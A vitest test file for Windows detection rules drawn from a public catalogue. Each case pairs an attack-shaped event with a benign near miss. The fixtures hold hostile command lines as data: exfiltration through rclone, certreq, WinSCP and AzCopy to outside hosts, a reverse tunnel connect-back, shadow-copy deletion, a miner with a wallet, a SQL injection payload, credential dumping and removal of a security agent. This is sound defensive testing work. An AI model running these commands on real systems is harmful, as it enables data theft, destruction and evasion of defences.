// Built-in rules written from a public detection catalogue read as a list of attack shapes (Elastic's Windows detection
// rules for credential access, lateral movement, discovery, collection, exfiltration, command and control, impact and
// initial access): each rule fires on the event it is written for, as Windows or Sysmon writes it, with its level and a
// tactic of what the event shows, and a benign near miss of the same event type does not fire it.
import { describe, expect, it } from 'vitest';
import type { JsonRecord } from '../event.js';
import { builtinHits, CMD, describeCatalogue, dns, EXPL, load, net, OFFICE, proc, PS, S32, script as scriptBlock, sysmon, tick, USER, windowsEvent, type CatalogueCase, type Ev } from './builtin.fixture.js';

const subj = { SubjectUserSid: 'S-1-5-21-1-2-3-1104', SubjectUserName: 'bob', SubjectDomainName: 'CORP', SubjectLogonId: '0x3a1f2' };
// This file's channel events (and script blocks) are on SRV01; its proc has no parent command line and file no creation time.
const win = (channel: string, provider: string, eventId: number, data: JsonRecord, host = 'SRV01'): Ev => windowsEvent(tick(), channel, provider, eventId, data, host);
const script = (text: string): Ev => scriptBlock(text, 'SRV01');
const sec = (id: number, data: JsonRecord): Ev => win('Security', 'Microsoft-Windows-Security-Auditing', id, data);
const file = (target: string, image: string, eventId = 11): Ev => sysmon(eventId, { Image: image, TargetFilename: target, User: USER });
const dnsNode = (dn: string, user = 'bob'): Ev =>
  sec(5137, { OpCorrelationID: '{7}', AppCorrelationID: '-', ...subj, SubjectUserName: user, DSName: 'corp.example', DSType: '%%14676', ObjectDN: `${dn},DC=corp.example,CN=MicrosoftDNS,DC=DomainDnsZones,DC=corp,DC=example`, ObjectGUID: '{8}', ObjectClass: 'dnsNode' });
const pipe = (name: string): Ev =>
  sec(5145, { ...subj, ObjectType: 'File', IpAddress: '10.0.0.66', IpPort: '50200', ShareName: '\\\\*\\IPC$', ShareLocalPath: '', RelativeTargetName: name, AccessMask: '0x3', AccessList: '%%4416 %%4417' });
const task = (locality: string, clientPid: string): Ev =>
  sec(4698, { ...subj, TaskName: '\\Updater', TaskContent: '<Task><Actions><Exec><Command>C:\\Windows\\Temp\\a.bat</Command></Exec></Actions></Task>', ClientProcessStartKey: '0', ClientProcessId: clientPid, ParentProcessId: '0', RpcCallClientLocality: locality, FQDN: 'srv01.corp.example' });
const lsassTrace = (frame: string): string => `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|${frame}`;
const mssql = (statement: string): Ev => win('Application', 'MSSQLSERVER', 33205, { Data: [`Audit event: action_id:SL class_type:U session_server_principal_name:webapp statement:${statement}`] });
const quickAssist = (text: string): Ev => win('Application', 'Quick Assist', 0, { Data: [text] });
const AGENT = 'C:\\Program Files\\Microsoft Azure AD Connect Authentication Agent\\AzureADConnectAuthenticationAgentService.exe';
const MSBUILD = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe';
const SMSEXEC = 'C:\\Program Files\\Microsoft Configuration Manager\\bin\\x64\\smsexec.exe';
const VEEAM = 'C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\';

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['Wildcard Or WPAD DNS Record Created In Active Directory', 'high', 'credential-access',
    dnsNode('DC=*'), dnsNode('DC=wpad-print01')],
  ['Wildcard Or WPAD DNS Record Created In Active Directory', 'high', 'credential-access',
    dnsNode('DC=wpad'), dnsNode('DC=fileserver2')],
  ['DNS Record Created In Active Directory By A User Account', 'low', 'credential-access',
    dnsNode('DC=fileserver2'), dnsNode('DC=ws22', 'WS22$')],
  ['Remote Access To A Pipe Used To Coerce Authentication', 'low', 'credential-access',
    pipe('efsrpc'), pipe('srvsvc')],
  ['Scheduled Task Created Over RPC From Another Host', 'low', 'lateral-movement',
    task('0', '0'), task('1', '4120')],
  ['LSASS Opens A Process For Handle Duplication From Unbacked Code', 'high', 'credential-access',
    sysmon(10, { SourceImage: `${S32}lsass.exe`, TargetImage: 'C:\\Users\\Public\\tool.exe', GrantedAccess: '0x40', CallTrace: lsassTrace('UNKNOWN(00007FF8A1B2C3D4)') }),
    sysmon(10, { SourceImage: `${S32}lsass.exe`, TargetImage: `${S32}svchost.exe`, GrantedAccess: '0x40', CallTrace: lsassTrace('C:\\Windows\\system32\\lsasrv.dll+5a1b') })],
  ['Unsigned Library Loaded By The Azure AD Pass-Through Authentication Agent', 'high', 'credential-access',
    load(AGENT, 'C:\\Program Files\\Microsoft Azure AD Connect Authentication Agent\\hook.dll', { Signed: 'false' }),
    load(AGENT, 'C:\\Windows\\Microsoft.NET\\assembly\\GAC_MSIL\\System.Xml\\System.Xml.dll', { Signed: 'false' })],
  ['MSBuild Loads The Credential Vault Or SAM Client Library', 'medium', 'credential-access',
    load(MSBUILD, `${S32}vaultcli.dll`), load(MSBUILD, `${S32}mscoree.dll`)],
  ['Veeam Backup Library Loaded By PowerShell Or A Script Host', 'low', 'credential-access',
    load(PS, `${VEEAM}Veeam.Backup.Common.dll`), load(`${VEEAM}Veeam.Backup.Service.exe`, `${VEEAM}Veeam.Backup.Common.dll`)],
  ['COM+ Services Library Loaded Under Another File Name', 'high', 'credential-access',
    load(`${S32}rundll32.exe`, 'C:\\Users\\Public\\x.dll', { OriginalFileName: 'COMSVCS.DLL' }),
    load(`${S32}dllhost.exe`, `${S32}comsvcs.dll`, { OriginalFileName: 'COMSVCS.DLL' })],
  ['SMB Connection To A Public Address', 'low', 'credential-access',
    net('System', '198.51.100.20', 445), net('System', '10.0.0.21', 445)],
  ['Public IP Address Lookup Service Resolved By A Program Other Than A Browser', 'low', 'discovery',
    dns(PS, 'api.ipify.org'), dns('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'api.ipify.org')],
  ['Telegram Bot API Resolved By A Program In A User-Writable Folder', 'medium', 'exfiltration',
    dns('C:\\Users\\bob\\AppData\\Local\\Programs\\PDFConvertor\\pdfconv.exe', 'api.telegram.org'),
    dns('C:\\Users\\bob\\AppData\\Roaming\\Telegram Desktop\\Telegram.exe', 'api.telegram.org')],
  ['DNS Query With A Numbered Encoded Chunk Label', 'medium', 'exfiltration',
    dns('C:\\Users\\Public\\upd.exe', '12-SGVsbG8gV29ybGQgdGhpcyBpcyBh.x.example.net'), dns('C:\\Users\\Public\\upd.exe', 'e12345.dscb.akamaiedge.net')],
  ['Remote Support Tool Writes A Program Or Script', 'low', 'command-and-control',
    file('C:\\Users\\bob\\Desktop\\tool.exe', 'C:\\Program Files\\TeamViewer\\TeamViewer.exe'),
    file('C:\\Users\\bob\\AppData\\Local\\Temp\\TeamViewer\\update.exe', 'C:\\Program Files\\TeamViewer\\TeamViewer.exe')],
  ['Backup Set File Deleted', 'medium', 'impact',
    file('E:\\Backups\\Job1\\Job1D2026-11-30T220012_1A2B.vbk', 'C:\\Users\\Public\\x.exe', 23),
    file('E:\\Backups\\Job1\\Job1D2026-11-30T220012_1A2B.vbk', 'C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe', 23)],
  ['Windows Boot Loader Or Kernel File Deleted', 'high', 'impact',
    file(`${S32}winload.exe`, 'C:\\Users\\Public\\x.exe', 23),
    file('C:\\Windows\\WinSxS\\amd64_microsoft-windows-os-kernel_31bf3856ad364e35_10.0.19041.1_none_1\\ntoskrnl.exe', 'C:\\Users\\Public\\x.exe', 23)],
  ['Shell Started By A Remote Support Tool', 'low', 'command-and-control',
    proc(CMD, 'cmd.exe', 'C:\\Program Files (x86)\\ScreenConnect Client (1a2b)\\ScreenConnect.WindowsBackstageShell.exe'),
    proc(`${S32}rundll32.exe`, 'rundll32.exe url.dll,FileProtocolHandler https://example.com', 'C:\\Program Files (x86)\\ScreenConnect Client (1a2b)\\ScreenConnect.WindowsClient.exe')],
  ['Program Run From The Internet Explorer Download Cache', 'medium', 'initial-access',
    proc('C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\ABCD1234\\invoice[1].exe', 'invoice[1].exe', EXPL),
    proc('C:\\Users\\bob\\Downloads\\invoice.exe', 'invoice.exe', EXPL)],
  ['Office Add-In Opened From Downloads, Temp Or An Extracted Archive', 'medium', 'initial-access',
    proc(`${OFFICE}EXCEL.EXE`, `"${OFFICE}EXCEL.EXE" "C:\\Users\\bob\\AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.xll"`, EXPL),
    proc(`${OFFICE}EXCEL.EXE`, `"${OFFICE}EXCEL.EXE" "C:\\Users\\bob\\Downloads\\budget.xlsx"`, EXPL)],
  ['Remote Desktop File Opened From Downloads, Temp Or An Extracted Archive', 'medium', 'initial-access',
    proc(`${S32}mstsc.exe`, '"C:\\Windows\\System32\\mstsc.exe" "C:\\Users\\bob\\Downloads\\payroll.rdp"', EXPL),
    proc(`${S32}mstsc.exe`, '"C:\\Windows\\System32\\mstsc.exe" "C:\\Users\\bob\\Documents\\srv01.rdp"', EXPL)],
  ['Rclone Copy Or Sync Run Under Another Name', 'high', 'exfiltration',
    proc('C:\\Users\\Public\\svchost.exe', 'svchost.exe copy \\\\fs01\\finance remote:b --transfers 12', CMD, { OriginalFileName: 'rclone.exe' }),
    proc('C:\\Program Files\\rclone\\rclone.exe', 'rclone.exe copy C:\\Data remote:b', CMD, { OriginalFileName: 'rclone.exe' })],
  ['Exchange Mailbox Export Requested From A Command Line', 'medium', 'collection',
    proc(PS, 'powershell.exe -c "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\fs01\\pst\\ceo.pst"'),
    proc(PS, 'powershell.exe -c "Get-MailboxExportRequest | Remove-MailboxExportRequest"')],
  ['Exchange Mailbox Export Requested In A Script Block', 'medium', 'collection',
    script('New-MailboxExportRequest -Mailbox ceo -FilePath \\\\fs01\\pst\\ceo.pst'), script('Get-MailboxExportRequest -Status Completed')],
  ['Kerberos Ticket Cache Read Through The LSA API In A Script Block', 'high', 'credential-access',
    script('[Secur32]::LsaCallAuthenticationPackage($h, $pkg, $req, $len, [ref]$resp, [ref]$rl, [ref]$st) # KerbQueryTicketCacheExMessage'),
    script('klist.exe tickets | Out-File $env:TEMP\\k.txt')],
  ['Veeam Stored Credentials Read In A Script Block', 'high', 'credential-access',
    script('Invoke-Sqlcmd -ServerInstance .\\VEEAMSQL2016 -Query "SELECT user_name,password FROM [VeeamBackup].[dbo].[Credentials]"'),
    script('Get-VBRJob | Where-Object { $_.IsScheduleEnabled } | Select-Object Name # Veeam report')],
  ['Microphone Or Webcam Capture In A Script Block', 'medium', 'collection',
    script('$c = New-Object AForge.Video.DirectShow.VideoCaptureDevice $d.MonikerString; $c.Start()'),
    script('Get-PnpDevice -Class Camera | Select-Object FriendlyName, Status')],
  ['Mailbox Read Through Exchange Web Services In A Script Block', 'low', 'collection',
    script('$s = New-Object Microsoft.Exchange.WebServices.Data.ExchangeService; $v = New-Object Microsoft.Exchange.WebServices.Data.ItemView(100); $s.FindItems("Inbox", $v)'),
    script('$s = New-Object Microsoft.Exchange.WebServices.Data.ExchangeService; $s.AutodiscoverUrl($mail)')],
  ['Windows Network Enumeration API Declared In A Script Block', 'low', 'discovery',
    script('[DllImport("netapi32.dll")] public static extern int NetSessionEnum(string s, string c, string u, int l, out IntPtr b, int m, out int e, out int t, ref int r);'),
    script('[DllImport("netapi32.dll")] public static extern int NetApiBufferFree(IntPtr b);')],
  ['SQL Injection Pattern In An Audited SQL Server Statement', 'medium', 'initial-access',
    mssql('SELECT * FROM products WHERE id=1 AND 1=CONVERT(INT,(SELECT CHAR(113)+CHAR(120)+CHAR(106)+(SELECT TOP 1 name FROM sys.databases)))'),
    mssql('SELECT name, price FROM products WHERE id=@p1')],
  ['Browser Data Dump Tool Arguments (HackBrowserData)', 'high', 'credential-access',
    proc('C:\\Users\\Public\\Libraries\\hbd.exe', 'C:\\Users\\Public\\Libraries\\hbd.exe  -b all -f json --dir C:\\Users\\Public\\Libraries\\r --zip'),
    proc('C:\\Program Files\\Git\\cmd\\git.exe', 'git checkout -b all-features --track origin/main')],
  ['Browser Passwords Or Cookies Exported To Files By Another Program', 'high', 'credential-access',
    file('C:\\Users\\Public\\Libraries\\r\\chrome_default_password.json', 'C:\\Users\\Public\\Libraries\\hbd.exe'),
    file('C:\\Users\\bob\\Downloads\\Chrome Passwords.csv', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe')],
  ['WPAD Name Resolved On The Local Network (Sysmon 22)', 'medium', 'credential-access',
    dns('C:\\Windows\\System32\\svchost.exe', 'wpad'),
    sysmon(22, { Image: 'C:\\Windows\\System32\\svchost.exe', QueryName: 'wpad', QueryStatus: '9003', QueryResults: '-', User: USER })],
  ['Reverse Tunnel Agent Started With Its Connect-Back Arguments', 'high', 'command-and-control',
    proc('C:\\Windows\\Temp\\agent.exe', 'agent.exe  -connect 203.0.113.99:11601 -ignore-cert'),
    proc('C:\\Program Files\\Vendor\\sync.exe', 'sync.exe -connect https://sync.example.com -profile default')],
  ['Program Named After A Windows Binary Started By A Server Process Outside The System Folders', 'high', 'initial-access',
    proc('C:\\Program Files\\ManageEngine\\ServiceDesk\\bin\\msiexec.exe', 'msiexec.exe', 'C:\\Program Files\\ManageEngine\\ServiceDesk\\jre\\bin\\java.exe'),
    proc('C:\\Windows\\System32\\msiexec.exe', 'msiexec.exe /i C:\\Temp\\agent.msi /qn', 'C:\\Program Files\\ManageEngine\\ServiceDesk\\jre\\bin\\java.exe')],
  ['Program Started From A WebDAV Share', 'high', 'stealth',
    proc('\\\\198.51.100.77@80\\DavWWWRoot\\share\\signal.exe', '"\\\\198.51.100.77@80\\DavWWWRoot\\share\\signal.exe" ', EXPL),
    proc('\\\\fileserver\\apps\\tool.exe', '"\\\\fileserver\\apps\\tool.exe"', EXPL)],
  ['Database Tables Exported To Files By A Command-Line Client (sqlcmd, bcp)', 'medium', 'collection',
    proc('C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE', 'sqlcmd  -S localhost -E -d CRM -Q "SET NOCOUNT ON; SELECT * FROM dbo.Customers" -s "," -W -h -1 -o C:\\ProgramData\\Microsoft\\Crypto\\cust_01.csv'),
    proc('C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE', 'sqlcmd -S localhost -E -Q "BACKUP DATABASE CRM TO DISK=\'D:\\Backup\\crm.bak\'"')],
  ['Documents Searched For Recursively By Type Across Folders Or Shares (Get-ChildItem -Recurse -Include)', 'medium', 'discovery',
    proc(PS, 'powershell.exe -c "Get-ChildItem \\\\fs01\\Finance -Recurse -Include *.docx,*.xlsx,*.pdf | Export-Csv C:\\Users\\Public\\inv.csv"'),
    proc(PS, 'powershell.exe -c "Get-ChildItem C:\\build -Recurse -Include *.dll | Remove-Item"')],
  ['Documents Searched For Recursively By Type In A Script Block (4104)', 'medium', 'collection',
    script('$ext = "*.docx","*.xlsx","*.pdf","*.pst"\nGet-ChildItem -Path \\\\fs01\\Finance -Recurse -Include $ext -ErrorAction SilentlyContinue'),
    script('Get-ChildItem -Path C:\\inetpub\\logs -Recurse -Filter *.log | Remove-Item')],
  ['Files Put To A Remote Host By A Scripted SFTP, SCP Or FTP Client (WinSCP, pscp, ftp -s)', 'medium', 'exfiltration',
    proc('C:\\Program Files (x86)\\WinSCP\\WinSCP.com', '"C:\\Program Files (x86)\\WinSCP\\WinSCP.com" /ini=nul /command "open sftp://upl@203.0.113.54:22/ -hostkey=*" "put C:\\ProgramData\\t\\*.7z /srv/in/" "exit"'),
    proc('C:\\Windows\\System32\\ftp.exe', 'ftp.exe files.example.com')],
  ['Cabinet Built From A Directive File (makecab /F)', 'medium', 'collection',
    proc('C:\\Windows\\System32\\makecab.exe', 'makecab  /F "C:\\ProgramData\\Package Cache\\{A3C1B}\\x.ddf"'),
    proc('C:\\Windows\\System32\\makecab.exe', 'makecab.exe C:\\Windows\\Logs\\CBS\\CBS.log C:\\Windows\\Logs\\CBS\\CbsPersist.cab')],
  ['File Posted To A Web Server By Certreq (-Post)', 'high', 'exfiltration',
    proc('C:\\Windows\\System32\\certreq.exe', 'certreq  -Post -config https://cdn-sync.example.net/api/r C:\\ProgramData\\Adobe\\u.csv C:\\ProgramData\\Adobe\\o.txt'),
    proc('C:\\Windows\\System32\\certreq.exe', 'certreq -submit -config "CA01.corp.example\\Corp Issuing CA" req.csr cert.cer')],
  ['KeePass Export Trigger Planted From PowerShell (KeeThief)', 'high', 'credential-access',
    script('function Add-KeePassConfigTrigger { [CmdletBinding()] Param([String]$Path) }'),
    script('Get-Content "$env:APPDATA\\KeePass\\KeePass.config.xml" | Select-String Language')],
  ['Browser Database Copied By Esentutl (WebCache, Chrome Or Edge Profiles)', 'high', 'collection',
    proc('C:\\Windows\\System32\\esentutl.exe', 'esentutl.exe  /y /vss C:\\Users\\j.kim\\AppData\\Local\\Microsoft\\Windows\\WebCache\\WebCacheV01.dat /d C:\\Users\\Public\\w.dat'),
    proc('C:\\Windows\\System32\\esentutl.exe', 'esentutl.exe /mh C:\\Windows\\SoftwareDistribution\\DataStore\\DataStore.edb')],
  ['SharePoint Sites, Libraries Or Searches Enumerated In Bulk With PnP PowerShell', 'medium', 'collection',
    script('Get-PnPTenantSite -IncludeOneDriveSites | Select-Object Url, Title, Owner | Export-Csv C:\\Temp\\sites.csv'),
    script('Connect-PnPOnline -Url https://corpexample.sharepoint.com/sites/hr -Interactive')],
  ['Local Files Uploaded To Azure Storage With A Shared Access Signature (AzCopy)', 'medium', 'exfiltration',
    proc('C:\\ProgramData\\AzCopy\\azcopy.exe', 'azcopy.exe  copy "D:\\Shares\\Engineering\\*" "https://stbkp7741.blob.core.windows.net/in?sv=2022-11-02&sp=rwlac&sig=abc%3D" --recursive'),
    proc('C:\\ProgramData\\AzCopy\\azcopy.exe', 'azcopy.exe login --tenant-id 00000000-0000-0000-0000-000000000000')],
  ['Files Sent Over Bluetooth (fsquirt -send)', 'medium', 'exfiltration',
    proc('C:\\Windows\\System32\\fsquirt.exe', '"C:\\Windows\\System32\\fsquirt.exe" -send', EXPL),
    proc('C:\\Windows\\System32\\fsquirt.exe', '"C:\\Windows\\System32\\fsquirt.exe" -receive', EXPL)],
  ['Local Files Copied Out To An RDP Client Drive (\\\\tsclient)', 'medium', 'exfiltration',
    proc('C:\\Windows\\System32\\Robocopy.exe', 'robocopy  D:\\Data\\Finance \\\\tsclient\\C\\Temp\\f /E /Z /R:1 /W:1 /NP'),
    proc('C:\\Windows\\System32\\Robocopy.exe', 'robocopy \\\\tsclient\\C\\Tools D:\\Tools /E')],
  ['Local Files Copied Out To An RDP Client Drive (\\\\tsclient)', 'medium', 'exfiltration',
    proc(CMD, 'C:\\Windows\\system32\\cmd.exe /c copy /y "D:\\Data\\Exports\\GL 2024 full.csv" \\\\tsclient\\C\\Temp\\f\\'),
    proc(CMD, 'C:\\Windows\\system32\\cmd.exe /c copy /y \\\\tsclient\\C\\Temp\\setup.msi C:\\Temp\\')],
  ['Files From A Network Share Copied Into A Cloud Sync Folder', 'medium', 'exfiltration',
    proc('C:\\Windows\\System32\\Robocopy.exe', 'robocopy \\\\fs01\\Engineering\\CAD C:\\Users\\d.patel\\OneDrive\\Backup /E /MT:8'),
    proc('C:\\Windows\\System32\\Robocopy.exe', 'robocopy \\\\fs01\\Engineering\\CAD D:\\Work\\CAD /E /MT:8')],
  ['Files From A Network Share Copied Into A Cloud Sync Folder', 'medium', 'exfiltration',
    proc('C:\\Windows\\System32\\xcopy.exe', 'xcopy "\\\\fs01\\Projects\\Bid 2025" "C:\\Users\\amy\\Dropbox\\Bid 2025\\" /E /I /Y'),
    proc('C:\\Windows\\System32\\xcopy.exe', 'xcopy "C:\\Users\\amy\\Dropbox\\Bid 2025" "C:\\Users\\amy\\Documents\\Bid 2025\\" /E /I /Y')],
  ['Raw Access To A Whole Physical Disk By A Program Outside The System Folders Or A Script Host (Sysmon 9)', 'high', 'impact',
    sysmon(9, { Image: 'C:\\Windows\\Temp\\pnsvc.exe', Device: '\\Device\\Harddisk0\\DR0', User: 'NT AUTHORITY\\SYSTEM' }),
    sysmon(9, { Image: 'C:\\Windows\\Temp\\pnsvc.exe', Device: '\\Device\\HarddiskVolume3', User: 'NT AUTHORITY\\SYSTEM' })],
  ['Raw Access To A Whole Physical Disk By A Program Outside The System Folders Or A Script Host (Sysmon 9)', 'high', 'impact',
    sysmon(9, { Image: `${S32}rundll32.exe`, Device: '\\Device\\Harddisk0\\DR0', User: 'NT AUTHORITY\\SYSTEM' }),
    sysmon(9, { Image: `${S32}svchost.exe`, Device: '\\Device\\Harddisk0\\DR0', User: 'NT AUTHORITY\\SYSTEM' })],
  ['Volume Formatted With Overwrite Passes (format /P)', 'medium', 'impact',
    proc(`${S32}format.com`, 'format.com  D: /FS:NTFS /P:1 /Y /X /V:'),
    proc(`${S32}format.com`, 'format.com  F: /FS:exFAT /Q /Y /V:USB')],
  ['Cryptocurrency Miner Started With A Pool And A Wallet (XMRig-Style Options)', 'high', 'impact',
    proc('C:\\ProgramData\\WindowsHelper\\xmrig.exe', '"C:\\ProgramData\\WindowsHelper\\xmrig.exe" -o gulf.moneroocean.stream:10128 -u 4AbQ9y3kH6fYV2sWq7tLrC8mN5pX1zE4uJ9dG2hK6vB3nM7cS8wT1 -p SRV-WEB04 -k --donate-level=1 -B'),
    proc('C:\\Tools\\curl.exe', 'curl.exe -o out.html https://intranet.corp.example:8443/ -u alice')],
  ['Cryptocurrency Miner Started With A Pool And A Wallet (XMRig-Style Options)', 'high', 'impact',
    proc('C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe', 'svc.exe -a ethash -o pool.example-mine.org:4444 -u 0x3f5CE5FBFe3E9af3971dD833D26bA9b5C936f0bE -w rig1'),
    proc('C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe', 'svc.exe --config C:\\Users\\bob\\AppData\\Local\\Temp\\svc.json')],
  ['Database Server Or Agent Killed With Taskkill', 'medium', 'impact',
    proc(`${S32}taskkill.exe`, 'taskkill  /F /IM sqlservr.exe'),
    proc(`${S32}taskkill.exe`, 'taskkill  /F /IM winword.exe')],
  ['ESXi Shell Commands Sent From A Windows Host (esxcli, vim-cmd)', 'medium', 'discovery',
    proc('C:\\Users\\adm\\Downloads\\plink.exe', 'plink.exe -ssh -batch -pw P4ss root@10.12.0.21 "esxcli --formatter=csv vm process list; vim-cmd vmsvc/getallvms"'),
    proc('C:\\Users\\adm\\Downloads\\plink.exe', 'plink.exe -ssh -batch root@10.12.0.21 "uptime"')],
  ['Diskshadow Script That Deletes Shadow Copies Written From The Command Line', 'high', 'impact',
    proc(CMD, 'C:\\Windows\\system32\\cmd.exe /C "echo set verbose on > C:\\ProgramData\\sh.txt & echo delete shadows all >> C:\\ProgramData\\sh.txt & echo exit >> C:\\ProgramData\\sh.txt"'),
    proc(CMD, 'C:\\Windows\\system32\\cmd.exe /C "echo set context persistent > C:\\ProgramData\\b.txt & echo add volume c: >> C:\\ProgramData\\b.txt"')],
  ['Burst Of Documents Given One New Extension By One Program', 'high', 'impact',
    ['AP_aging.xlsx', 'GL_export.csv', 'vendors.xlsx', 'PX-2210.dwg', 'notes.docx', 'salaries.xlsx'].map((n) => file(`E:\\Shares\\Finance\\${n}.akira`, 'C:\\Users\\svc\\Desktop\\w.exe')),
    ['AP_aging.xlsx', 'GL_export.csv', 'vendors.xlsx', 'PX-2210.dwg', 'notes.docx', 'salaries.xlsx'].map((n) => file(`E:\\Shares\\Finance\\${n}.crdownload`, 'C:\\Users\\svc\\Desktop\\w.exe'))],
  ['Burst Of Audited Files Deleted Or Renamed By One Program Outside Windows (4663)', 'medium', 'impact',
    ['a.pdf', 'b.docx', 'c.xlsx', 'd.csv', 'e.pdf'].map((n) => sec(4663, { ...subj, ObjectServer: 'Security', ObjectType: 'File', ObjectName: `D:\\Data\\Legal\\${n}`, HandleId: '0x4a8', AccessList: '%%1537', AccessMask: '0x10000', ProcessId: '0x1f24', ProcessName: 'C:\\Users\\adm\\Desktop\\LB3.exe' })),
    ['a.pdf', 'b.docx', 'c.xlsx', 'd.csv', 'e.pdf'].map((n) => sec(4663, { ...subj, ObjectServer: 'Security', ObjectType: 'File', ObjectName: `D:\\Data\\Legal\\${n}`, HandleId: '0x4a8', AccessList: '%%1537', AccessMask: '0x10000', ProcessId: '0x1f24', ProcessName: 'C:\\Windows\\explorer.exe' }))],
  ['Script Or Program On A WebDAV Share Opened From Explorer (Lure Link Followed)', 'high', 'initial-access',
    proc(`${S32}wscript.exe`, '"C:\\Windows\\System32\\WScript.exe" "\\\\88.214.25.191@80\\share\\Signals_Feb_2024.vbs"', EXPL),
    proc(`${S32}wscript.exe`, '"C:\\Windows\\System32\\WScript.exe" "\\\\fs01\\scripts\\logon.vbs"', EXPL)],
  ['Script Or Program On A WebDAV Share Opened From Explorer (Lure Link Followed)', 'high', 'initial-access',
    proc(CMD, '"C:\\Windows\\System32\\cmd.exe" /c start /min \\\\pleased-drugs.trycloudflare.com@SSL\\DavWWWRoot\\tender.bat', EXPL),
    proc(CMD, '"C:\\Windows\\System32\\cmd.exe" /c start /min \\\\pleased-drugs.trycloudflare.com@SSL\\DavWWWRoot\\tender.bat', 'C:\\Program Files\\Contoso\\agent.exe')],
  ['WebDAV Client Connects To A Bare Address Or A Free Tunnel Host (davclnt DavSetCookie)', 'medium', 'initial-access',
    proc(`${S32}rundll32.exe`, 'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie invoice-files.trycloudflare.com@SSL https://invoice-files.trycloudflare.com/DavWWWRoot/Documents', `${S32}svchost.exe`),
    proc(`${S32}rundll32.exe`, 'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie corpexample.sharepoint.com@SSL https://corpexample.sharepoint.com/sites/hr', `${S32}svchost.exe`)],
  ['WebDAV Client Connects To A Bare Address Or A Free Tunnel Host (davclnt DavSetCookie)', 'medium', 'initial-access',
    proc(`${S32}rundll32.exe`, 'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie 88.214.25.191@80 http://88.214.25.191/share/', `${S32}svchost.exe`),
    proc(`${S32}rundll32.exe`, 'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie intranet@80 http://intranet/share/', `${S32}svchost.exe`)],
  ['Macro-Enabled Template Downloaded By Word (Remote Template Injection)', 'medium', 'stealth',
    file('C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Word\\Normal_Legal_v2[1].dotm', `${OFFICE}WINWORD.EXE`),
    file('C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm', `${OFFICE}WINWORD.EXE`)],
  ['Browser Opened On A Consent Request For Mail Or Files Access (OAuth Consent Lure)', 'low', 'initial-access',
    proc('C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7b1f3c5e&response_type=code&scope=offline_access%20Mail.ReadWrite%20Files.ReadWrite.All&prompt=consent', `${OFFICE}OUTLOOK.EXE`),
    proc('C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7b1f3c5e&response_type=code&scope=openid%20profile&prompt=select_account', `${OFFICE}OUTLOOK.EXE`)],
  ['TeamViewer Bound To An Account Or Given A Fixed Password From The Command Line', 'medium', 'persistence',
    proc('C:\\Program Files\\TeamViewer\\TeamViewer.exe', '"C:\\Program Files\\TeamViewer\\TeamViewer.exe" assignment --id 0001CoABChBq9Xk2'),
    proc('C:\\Program Files\\TeamViewer\\TeamViewer.exe', '"C:\\Program Files\\TeamViewer\\TeamViewer.exe"')],
  ['Configuration Manager Attack Tool Or Its Secrets Queried (SharpSCCM, PXEThief, Network Access Account)', 'high', 'credential-access',
    proc('C:\\Users\\Public\\SharpSCCM.exe', 'SharpSCCM.exe local secrets -m wmi'),
    proc('C:\\Windows\\CCM\\CcmExec.exe', '"C:\\Windows\\CCM\\CcmExec.exe"', 'C:\\Windows\\System32\\services.exe')],
  ['Configuration Manager Secrets Read Or A Site Administrator Added From PowerShell (script block 4104)', 'high', 'persistence',
    script("$body = @{ LogonName = 'CORP\\svc-print'; Permissions = @(@{ CategoryID = 'SMS00ALL'; RoleID = 'SMS0001R' }) }"),
    script("Invoke-RestMethod -Uri 'https://sccm01.corp.example/AdminService/wmi/SMS_Admin' -UseDefaultCredentials")],
  ['DSC Local Configuration Manager Pointed At A Pull Server By Address Or Without TLS Checks (script block 4104)', 'medium', 'persistence',
    script("[DSCLocalConfigurationManager()] configuration Lcm { Node localhost { Settings { RefreshMode = 'Pull' }; ConfigurationRepositoryWeb Srv { ServerURL = 'https://10.20.44.77:8080/PSDSCPullServer.svc'; AllowUnsecureConnection = $true } } }"),
    script("[DSCLocalConfigurationManager()] configuration Lcm { Node localhost { ConfigurationRepositoryWeb Srv { ServerURL = 'https://dsc.corp.example/PSDSCPullServer.svc' } } }")],
  ['Endpoint Security Agent Uninstalled With Its Maintenance Token Or Cleaner Tool', 'high', 'stealth',
    proc('C:\\Windows\\ccmcache\\3c\\CsUninstallTool.exe', 'CsUninstallTool.exe MAINTENANCE_TOKEN=7f3a9c /quiet', 'C:\\Windows\\CCM\\CcmExec.exe'),
    proc('C:\\Windows\\ccmcache\\3c\\setup.exe', 'setup.exe /quiet', 'C:\\Windows\\CCM\\CcmExec.exe')],
